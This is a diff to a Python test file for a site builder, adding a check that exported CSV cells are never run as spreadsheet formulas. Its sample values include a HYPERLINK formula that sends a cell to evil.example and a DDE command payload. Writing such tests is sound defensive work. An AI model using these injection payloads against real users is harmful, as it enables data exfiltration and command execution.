@@ -3,6 +3,7 @@ folder, files of other types, too large, or SVG with script stop the build
 naming the file; what is accepted is published byte for byte."""
 
 import io
+import json
 import logging
 import os
 import subprocess
@@ -10,6 +11,7 @@ import sys
 import zipfile
 
 import pytest
+from lxml import etree
 
 from site_build import BuildFailed
 from test_meetings import BASE
@@ -192,3 +194,46 @@ def test_check_names_link_and_refused_file_in_the_editors_language(tmp_path, sec
         "2 virhettä, 0 varoitusta",
     ]
     assert "root:" not in result.stdout + result.stderr
+
+
+# Cells a spreadsheet would run as formulas, as a pasted e-mail may bring them.
+FORMULAS = {
+    "Lead": '=HYPERLINK("http://evil.example/?x="&A1;"Klikkaa")',
+    "Funding": "=cmd|'/c calc'!a0",
+    "Summary": "+1+1",
+    "Contact": "@SUM(1+1)",
+    "Partners": "-2+3",
+}
+
+
+def spreadsheet_cells(csv_file, workdir):
+    """The cells of ``csv_file`` as LibreOffice imports it (comma, double
+    quote, UTF-8): (formula or None, text) per cell, read from flat ODS.
+    `invoke test` installs LibreOffice (tasks.py SYSTEM_PACKAGES)."""
+    profile = workdir / "libreoffice-profile"
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
+         "fods", "--infilter=CSV:44,34,76", "--outdir", str(workdir), str(csv_file)],
+        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(workdir)})
+    namespaces = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
+                  "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
+    document = etree.parse(str(workdir / (csv_file.stem + ".fods")))
+    formula = f"{{{namespaces['table']}}}formula"
+    return [(cell.get(formula), "\n".join(p.xpath("string()") for p in cell.findall("text:p", namespaces)))
+            for cell in document.iterfind(".//table:table-cell", namespaces)]
+
+
+def test_open_data_csv_cells_never_run_as_formulas_in_a_spreadsheet(build_from, tmp_path):
+    header = "".join(f"{key}: {value}\n" for key, value in FORMULAS.items())
+    site = build_from({**BASE, "projects/paha.fi.md": f"Title: =1+1\nPhase: active\n{header}\nK.\n"})
+    data = json.loads((site.path / "hankkeet" / "projects.json").read_text(encoding="utf-8"))
+    paha = next(p for p in data["projects"] if p["name"] == "paha")
+    assert (paha["title"], paha["lead"], paha["funding"], paha["summary"], paha["contact"]) == (
+        "=1+1", FORMULAS["Lead"], FORMULAS["Funding"], FORMULAS["Summary"], FORMULAS["Contact"])
+    assert paha["partners"] == [FORMULAS["Partners"]]  # JSON stays exact
+
+    cells = spreadsheet_cells(site.path / "hankkeet" / "projects.csv", tmp_path)
+    assert [text for formula, text in cells if formula] == []
+    texts = [text for _formula, text in cells]
+    for written in ["=1+1", *FORMULAS.values()]:
+        assert texts.count("'" + written) == 1, written
